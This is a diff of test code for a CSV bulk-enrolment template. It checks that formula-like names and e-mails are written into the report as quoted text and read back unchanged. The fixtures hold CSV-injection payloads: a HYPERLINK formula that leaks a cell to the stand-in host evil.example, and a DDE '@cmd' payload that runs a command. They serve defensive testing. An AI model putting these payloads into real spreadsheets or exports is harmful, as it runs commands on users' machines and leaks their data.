@@ -3343,6 +3343,25 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 	// 12.3 and 12.4
 
 	const HEADER = ['email', 'first_name', 'last_name', 'workgroup_id'];
+	/** First and last names that start as a formula does: =, +, -, @ and a tab. */
+	const FORMULA_NAMES = [
+		['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+SUM(1,2)'],
+		['-2+3', "@cmd|' /C calc'!A0"],
+		['\tTabbed', "'=kept as text by a spreadsheet"],
+	];
+	/**
+	 * A cell as the template reads it: a ' before a formula's first character is a spreadsheet's
+	 * mark for text (the report's, or a spreadsheet's own export), and is taken off.
+	 */
+	const asRead = (value) => String(value ?? '').replace(/^'(?='*[=+\-@\t\r])/, '');
+	/** A report cell as the template writes it: one that starts as a formula gets a leading '. */
+	const asText = (value) => String(value ?? '').replace(/^(?='*[=+\-@\t\r])/, "'");
+	/** A file's cell in the report: read, then written as text. */
+	const cellOf = (value) => asText(asRead(value));
+	/** A file's name as Knolyx keeps it: read, without the spaces and tabs around it. */
+	const nameOf = (value) => asRead(value).trim();
+	/** Whether a spreadsheet would run the cell (OWASP's list of first characters). */
+	const runsInASpreadsheet = (cell) => /^[=+\-@\t\r]/.test(cell);
 	const student = (n, workgroup) => ({
 		email: `student${n}@school.example`,
 		first_name: `First${n}`,
@@ -3370,6 +3389,16 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 			last_name: 'Turing',
 			workgroup_id: 201,
 		}); // Knolyx matches e-mails in any case
+		// Names a spreadsheet would run as formulas (OWASP, CSV injection): Knolyx keeps them as they
+		// are; the report writes them so that they stay text, and reads them back as they were.
+		good.push(
+			...FORMULA_NAMES.map(([first_name, last_name], i) => ({
+				email: `formula${i}@school.example`,
+				first_name,
+				last_name,
+				workgroup_id: [201, 202, 203][i % 3],
+			})),
+		);
 		good.push(
 			...EXISTING.map((u, i) => ({
 				email: u.email,
@@ -3422,6 +3451,11 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 					workgroup_id: 999,
 				},
 				/^Knolyx: Entity not found \(workgroup 999 .*\) \[404\]$/,
+			],
+			[
+				// A formula for an e-mail: refused, and written into the report as text.
+				{ email: '=1+1', first_name: 'Formula', last_name: 'Email', workgroup_id: 201 },
+				/^Email: .*"=1\+1".*e-mail address/,
 			],
 		];
 		// Bad rows spread through the file, not at its end.
@@ -3482,10 +3516,11 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 			const expected = membersByGroup(before);
 			for (const r of rows.filter((x) => x.good)) {
 				const user = after.users.find((u) => lower(u.email) === lower(r.email));
+				// Knolyx keeps a name without the spaces and tabs around it.
 				expect({ row: r.row, first: user?.firstName, last: user?.lastName }).toEqual({
 					row: r.row,
-					first: r.first_name,
-					last: r.last_name,
+					first: nameOf(r.first_name),
+					last: nameOf(r.last_name),
 				});
 				expected[r.workgroup_id] = [
 					...new Set([...expected[r.workgroup_id], lower(r.email)]),
@@ -3565,7 +3600,7 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 			expect(failures).toHaveLength(bad.length);
 			for (const r of bad) {
 				const line = failures.find((l) =>
-					l.startsWith(`Row ${r.row}${r.email ? ` (${r.email})` : ''}: `),
+					l.startsWith(`Row ${r.row}${r.email ? ` (${cellOf(r.email)})` : ''}: `),
 				);
 				expect({ row: r.row, line: Boolean(line) }).toEqual({ row: r.row, line: true });
 				expect(line.slice(line.indexOf(': ') + 2)).toMatch(r.reason);
@@ -3587,12 +3622,14 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 					row: r.row,
 					email: line.email,
 					workgroup: line.workgroup_id,
+					first: line.first_name,
 					last: line.last_name,
 				}).toEqual({
 					row: r.row,
-					email: r.email,
+					email: cellOf(r.email),
 					workgroup: String(r.workgroup_id),
-					last: r.last_name,
+					first: cellOf(r.first_name),
+					last: cellOf(r.last_name),
 				});
 				if (r.good) expect(['created', 'already existed']).toContain(line.result);
 				else {
@@ -3605,6 +3642,21 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 				.filter((l) => l.email === 'student1@school.example')
 				.map((l) => l.result);
 			expect(twice.sort()).toEqual(['already existed', 'created']);
+		});
+
+		test('no cell of the report runs in a spreadsheet: each formula of the file is there as text, behind a leading quote', () => {
+			const cells = report.flatMap((l) => Object.values(l));
+			expect(cells.filter(runsInASpreadsheet)).toEqual([]);
+			const formulas = rows.filter((r) => r.email.startsWith('formula'));
+			expect(formulas).toHaveLength(FORMULA_NAMES.length);
+			for (const r of formulas) {
+				const line = report.find((l) => Number(l.row) === r.row);
+				expect([line.first_name, line.last_name]).toEqual([
+					`'${asRead(r.first_name)}`,
+					`'${asRead(r.last_name)}`,
+				]);
+			}
+			expect(report.find((l) => l.email === "'=1+1")?.result).toBe('failed');
 		});
 
 		test("the workflow's own count (Count the results) is the page's", async () => {
@@ -3629,6 +3681,7 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 				'letters@school.example': { workgroup_id: '203' },
 				'no.name@school.example': { first_name: 'Named' },
 				'lost.group@school.example': { workgroup_id: '201' },
+				"'=1+1": { email: 'formula.email@school.example' },
 			};
 
 			beforeAll(async () => {
@@ -3663,6 +3716,18 @@ describe('12. the bulk template: a CSV file of students enrolled without the wel
 						},
 					);
 				expect(afterAgain.onboardingEmails).toEqual(before.onboardingEmails);
+			});
+
+			test('the report read back as it was written: the formula names are in Knolyx as the first file had them, not one quote added', () => {
+				const formulas = rows.filter((r) => r.email.startsWith('formula'));
+				for (const r of formulas) {
+					const user = afterAgain.users.find((u) => lower(u.email) === lower(r.email));
+					expect({ row: r.row, first: user?.firstName, last: user?.lastName }).toEqual({
+						row: r.row,
+						first: nameOf(r.first_name),
+						last: nameOf(r.last_name),
+					});
+				}
 			});
 
 			test('each row written once: one membership write per row, no write beyond them', () => {
